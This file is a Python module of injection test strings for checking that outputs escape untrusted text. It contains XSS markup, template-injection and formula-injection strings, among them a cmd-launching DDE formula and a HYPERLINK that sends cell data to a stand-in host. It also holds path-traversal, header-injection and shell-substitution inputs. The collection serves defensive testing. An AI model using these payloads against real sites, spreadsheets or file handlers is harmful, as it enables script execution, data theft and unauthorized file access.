"""Texts that do harm wherever an output forgets to escape them; each is harmless when seen as text.

Whatever of them runs in a browser sets ``window.hit`` or asks ``HOST``.
"""

HOST = "payload.example"

MARKUP = (
    "</script><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    '" onmouseover="window.hit=1" autofocus onfocus="window.hit=1',
    "' onmouseover='window.hit=1' x='",
    "</style></title></textarea><svg onload=window.hit=1>",
    "<!--<script>window.hit=1</script>-->",
    "]]><script>window.hit=1</script><![CDATA[",
    f"<iframe srcdoc='<script>parent.hit=1</script>' src=//{HOST}/frame>",
    f"<link rel=stylesheet href=//{HOST}/x.css><meta http-equiv=refresh content=0;url=//{HOST}>",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "<payload-element>",
)
TEMPLATES = (
    "`${window.hit=1}`",
    "${window.hit=1} #{window.hit=1}",
    "\\`;window.hit=1;//",
    "'\";window.hit=1;//",
    "{{7*7}} {{constructor.constructor('window.hit=1')()}} {%raw%} {0} %s %(x)d",
    "\u2028window.hit=1;//\u2029",
    "$\\frac{$ & $$x$$ \u2028\u2029",
)
MARKDOWN = (
    "[x](javascript:window.hit=1) <javascript:window.hit=1>",
    f"![x](http://{HOST}/cell.png) [b]: http://{HOST}/b",
    f"http://{HOST}/a www.{HOST} ann@{HOST}",
    ":red[x] :material/home: :rainbow-background[y] # x\n- y",
    "    indented at the start\n\n    and after",
    "1. x | y | z\n---|---\n    indented `code` ~~gone~~ *x* __y__ [^1]",
)
UNSEEN = (
    "a\u202e72\u202c b\u2066c\u2069",
    "null\0byte, bell\x07, escape\x1b[2J\x1b]0;title\x07",
    "zero\u200bwidth \ufeffmark",
    "lone surrogate-like \ufffd \uffff",
)
LONG = ("x" * 3000, "word " * 600)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("http://{HOST}/?x="&A1,"here")',
    f'=IMPORTXML("http://{HOST}","//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=1+1",
    'x",=1+1,"y',
    "x\r\n=1+1",
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\con",
    "CON",
    "nul.txt",
    ".htaccess",
    "a\0b",
    "x" * 300,
    "\u202egpj.exe",
    "a\r\nSet-Cookie: x=1",
    'a"; filename="b.exe',
    "~root $HOME `id` ;id |id",
)

ALL = (*MARKUP, *TEMPLATES, *MARKDOWN, *UNSEEN, *LONG, *FORMULAS, *PATHS)
